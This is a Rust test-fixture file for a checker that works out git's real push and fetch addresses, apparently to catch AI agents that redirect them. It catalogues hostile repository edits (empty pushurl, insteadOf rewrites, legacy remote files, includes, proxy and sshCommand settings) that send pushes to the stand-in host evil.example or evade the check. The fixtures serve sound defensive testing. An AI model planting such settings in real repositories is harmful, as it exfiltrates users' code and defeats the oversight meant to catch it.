//! Hostile parts that an agent might write into a repository to redirect git.

use super::*;

pub(super) const GITHUB: &str = "https://github.com/acme/app";
pub(super) const ORIGIN: &str = "[remote \"origin\"]\n\turl = https://github.com/acme/app\n";
pub(super) const EVIL: &str = "[remote \"evil\"]\n\turl = https://evil.example/x\n";

/// Hostile part of a repository, and the expected results.
pub(super) struct Part {
    pub(super) what: &'static str,
    /// Configuration without the part.
    pub(super) plain: &'static str,
    /// Lines that the part adds to the configuration.
    pub(super) added: &'static str,
    /// The part's files, with their contents.
    pub(super) files: &'static [(&'static str, &'static str)],
    /// The part's symlinks, with their targets.
    pub(super) links: &'static [(&'static str, &'static str)],
    pub(super) folder: &'static str,
    pub(super) remote_use: RemoteUse,
    pub(super) raw: Option<&'static str>,
    /// Expected result without the part: the addresses, or the reason they are unknown.
    pub(super) before: &'static str,
    /// Expected result with the part.
    pub(super) after: &'static str,
}

/// Empty part on which the other parts are based.
pub(super) const PART: Part = Part {
    what: "",
    plain: ORIGIN,
    added: "",
    files: &[],
    links: &[],
    folder: "repo",
    remote_use: RemoteUse::Push,
    raw: None,
    before: GITHUB,
    after: "https://evil.example/x",
};

pub(super) const EMPTY: &str = "(unknown: a remote has an empty address)";
pub(super) const LEGACY: &str = "(unknown: the repository has remotes in files outside its configuration)";
pub(super) const NOT_PLAIN: &str = "(unknown: the repository's configuration is not in regular files)";
pub(super) const NOT_UNDERSTOOD: &str = "(unknown: git cannot parse the repository's configuration)";
pub(super) const FOREIGN: &str = "(unknown: not every version of git supports the repository's format)";
pub(super) const CONNECTED: &str = "(unknown: the repository's configuration changes how git connects)";
pub(super) const AMBIGUOUS: &str = "(unknown: programs may interpret the remote's address differently)";

pub(super) const LISTS: &[Part] = &[
    Part {
        what: "an empty pushurl clears the previous ones",
        plain: "[remote \"origin\"]\n\turl = https://evil.example/x\n\tpushurl = https://github.com/acme/app\n",
        added: "[remote \"origin\"]\n\tpushurl =\n",
        after: EMPTY,
        ..PART
    },
    Part {
        what: "an empty url makes the name the address",
        plain: "[remote \"https://evil.example/x\"]\n\turl = https://github.com/acme/app\n",
        added: "[remote \"https://evil.example/x\"]\n\turl =\n",
        raw: Some("https://evil.example/x"),
        after: EMPTY,
        ..PART
    },
    Part {
        what: "the first of two replacements applies",
        plain: "[url \"https://github.com/\"]\n\tinsteadOf = gh:\n",
        added: "[url \"https://evil.example/\"]\n\tinsteadOf = gh:\n",
        raw: Some("gh:acme/app"),
        after: GITHUB,
        ..PART
    },
    Part {
        what: "and it is first by any prefix that it replaces",
        plain: "[url \"https://evil.example/\"]\n\tinsteadOf = zz:\n[url \"https://github.com/\"]\n\tinsteadOf = gh:\n",
        added: "[url \"https://evil.example/\"]\n\tinsteadOf = gh:\n",
        raw: Some("gh:acme/app"),
        after: "https://evil.example/acme/app",
        ..PART
    },
    Part {
        what: "the sent address is the one looked up: a replaced address",
        added: "[url \"https://evil.example/\"]\n\tinsteadOf = https://github.com/\n",
        raw: Some("https://GITHUB.com/acme/app"),
        after: "https://evil.example/acme/app",
        ..PART
    },
    Part {
        what: "the sent address is the one looked up: an address that is a name",
        added: "[remote \"https://github.com/acme/app\"]\n\turl = https://evil.example/x\n",
        raw: Some("https://GITHUB.com/acme/app"),
        ..PART
    },
    Part {
        what: "a name without a remote is an address",
        plain: "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[branch \"main\"]\n\tremote = gone\n",
        added: "[url \"https://evil.example/x\"]\n\tinsteadOf = gone\n",
        ..PART
    },
    Part {
        what: "a name without a remote may be a folder",
        plain: "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[branch \"main\"]\n\tremote = gone\n",
        files: &[("repo/gone.git/HEAD", "ref: refs/heads/main\n")],
        after: "gone",
        ..PART
    },
    Part {
        what: "a path is never the name of a remote",
        plain: "[remote \"there\"]\n\turl = https://github.com/acme/app\n",
        added: "[remote \"/there\"]\n\turl = https://github.com/acme/app\n",
        remote_use: RemoteUse::Fetch,
        raw: Some("/there"),
        before: "/there",
        after: "/there",
        ..PART
    },
    Part {
        what: "only plain blanks separate the members of a group",
        plain: "[remote \"a\"]\n\turl = https://github.com/acme/app\n[remotes]\n\tgrp = \"a a\"\n",
        added: "[remote \"a\u{a0}a\"]\n\turl = https://evil.example/x\n[remotes]\n\tgrp = a\u{a0}a\n",
        remote_use: RemoteUse::Fetch,
        raw: Some("grp"),
        after: "https://github.com/acme/app https://evil.example/x",
        ..PART
    },
    Part {
        what: "a group with one member is a remote with the group's name",
        plain: "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[remotes]\n\tgrp = origin origin\n",
        added: "[remotes]\n\tother = origin\n[url \"https://evil.example/x\"]\n\tinsteadOf = grp\n",
        remote_use: RemoteUse::Fetch,
        raw: Some("grp"),
        after: "https://github.com/acme/app https://evil.example/x",
        ..PART
    },
    Part {
        what: "an option is not an address",
        added: "[url \"https://github.com/acme/app\"]\n\tinsteadOf = --repo=evil\n",
        raw: Some("--repo=evil"),
        before: "--repo=evil",
        after: "--repo=evil",
        ..PART
    },
    Part {
        what: "a login ends at a question mark",
        plain: "[remote \"up\"]\n\turl = https://github.com/acme/app\n",
        added: "[remote \"up\"]\n\tpushurl = https://evil.example?@github.com/acme/app\n",
        after: "https://evil.example?@github.com/acme/app",
        ..PART
    },
    Part {
        what: "a login ends at a number sign",
        plain: "[remote \"up\"]\n\turl = https://github.com/acme/app\n",
        added: "[remote \"up\"]\n\tpushurl = \"https://evil.example#@github.com/acme/app\"\n",
        after: "https://evil.example#@github.com/acme/app",
        ..PART
    },
    Part {
        what: "programs disagree about backslashes",
        plain: "[remote \"up\"]\n\turl = https://github.com/acme/app\n",
        added: "[remote \"up\"]\n\tpushurl = \"https://github.com\\\\@evil.example/x\"\n",
        after: AMBIGUOUS,
        ..PART
    },
];

pub(super) const FILES: &[Part] = &[
    Part {
        what: "remotes/NAME",
        files: &[("repo/.git/remotes/gone", "URL: https://evil.example/x\n")],
        after: LEGACY,
        ..PART
    },
    Part {
        what: "branches/NAME",
        files: &[("repo/.git/branches/gone", "https://evil.example/x\n")],
        after: LEGACY,
        ..PART
    },
    Part {
        what: "a name there that looks like an address",
        files: &[("repo/.git/remotes/github.com:z", "URL: https://evil.example/x\n")],
        raw: Some("github.com:z"),
        before: "github.com:z",
        after: LEGACY,
        ..PART
    },
    Part {
        what: "a HEAD that is a link",
        links: &[("repo/.git/HEAD", "refs/heads/main")],
        after: NOT_PLAIN,
        ..PART
    },
    Part {
        what: "a branch that is a symbolic reference",
        files: &[("repo/.git/refs/heads/main", "ref: refs/heads/other\n")],
        after: NOT_PLAIN,
        ..PART
    },
    Part {
        what: "a malformed branch",
        files: &[("repo/.git/refs/heads/main", "nonsense\n")],
        after: NOT_PLAIN,
        ..PART
    },
    Part {
        what: "a branch with a blank that only some strip",
        plain: "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[remote \"evil\"]\n\turl = https://evil.example/x\n[branch \"m\u{a0}\"]\n\tremote = evil\n",
        files: &[("repo/.git/HEAD", "ref: refs/heads/m\u{a0}\n")],
        ..PART
    },
    Part {
        what: "a branch with a name that git rejects",
        files: &[("repo/.git/HEAD", "ref: refs/heads/a b\n")],
        after: NOT_UNDERSTOOD,
        ..PART
    },
    Part {
        what: "worktree settings that only an include turns on or off",
        added: "[extensions]\n\tworktreeConfig = true\n[include]\n\tpath = inc\n",
        files: &[
            ("repo/.git/inc", "[extensions]\n\tworktreeConfig = false\n"),
            ("repo/.git/config.worktree", "[remote \"origin\"]\n\tpushurl = https://evil.example/x\n"),
        ],
        ..PART
    },
    Part {
        what: "a boolean spelling that only git accepts",
        added: "[extensions]\n\tworktreeConfig = 00\n",
        after: NOT_UNDERSTOOD,
        ..PART
    },
    Part {
        what: "a repository with a malformed version",
        added: "[extensions]\n\tworktreeConfig = true\n[core]\n\trepositoryformatversion = -1\n",
        after: FOREIGN,
        ..PART
    },
    Part {
        what: "fetch.all, in a spelling that only git accepts",
        remote_use: RemoteUse::Fetch,
        added: "[fetch]\n\tall = 0x0\n",
        after: NOT_UNDERSTOOD,
        ..PART
    },
    Part {
        what: "an include relative to a link, not to its target",
        added: "[include]\n\tpath = inc\n",
        files: &[
            (
                "repo/conf/config",
                "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[include]\n\tpath = inc\n",
            ),
            ("repo/.git/inc", "[remote \"origin\"]\n\tpushurl = https://evil.example/x\n"),
        ],
        links: &[("repo/.git/config", "../conf/config")],
        ..PART
    },
    Part {
        what: "an include through a folder that does not exist",
        plain: "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[branch \"main\"]\n\tremote = origin\n",
        added: "[remote \"evil\"]\n\turl = https://evil.example/x\n[branch \"main\"]\n\tremote = evil\n[include]\n\tpath = nowhere/../inc\n",
        files: &[("repo/.git/inc", "[branch \"main\"]\n\tremote = origin\n")],
        after: NOT_PLAIN,
        ..PART
    },
    Part {
        what: "a .git without a HEAD is not a repository",
        plain: EVIL,
        folder: "repo/sub",
        files: &[("repo/sub/.git/config", ORIGIN)],
        before: "https://evil.example/x",
        ..PART
    },
    Part {
        what: "a folder that looks bare, with an invalid HEAD",
        files: &[
            ("repo/sub/HEAD", "x\n"),
            ("repo/sub/objects/x", ""),
            ("repo/sub/refs/x", ""),
            ("repo/sub/config", EVIL),
        ],
        folder: "repo/sub",
        after: NOT_UNDERSTOOD,
        ..PART
    },
    Part {
        what: "a bare repository that shares another repository's files",
        files: &[
            ("repo/sub/HEAD", "ref: refs/heads/main\n"),
            ("repo/sub/commondir", "../far\n"),
            ("repo/far/objects/x", ""),
            ("repo/far/refs/x", ""),
            ("repo/far/config", EVIL),
        ],
        folder: "repo/sub",
        ..PART
    },
];

pub(super) const CONNECTIONS: [&str; 8] = [
    "[fetch]\n\tbundleURI = https://evil.example/bundle\n",
    "[http]\n\tcurloptResolve = github.com:443:192.0.2.1\n",
    "[http]\n\tproxy = http://192.0.2.1:3128\n",
    "[http \"https://github.com/\"]\n\tproxy = http://192.0.2.1:3128\n",
    "[remote \"origin\"]\n\tproxy = http://192.0.2.1:3128\n",
    "[core]\n\tgitProxy = /bin/false\n",
    "[core]\n\tsshCommand = ssh -o HostName=evil.example\n",
    "[include]\n\tpath = inc\n",
];
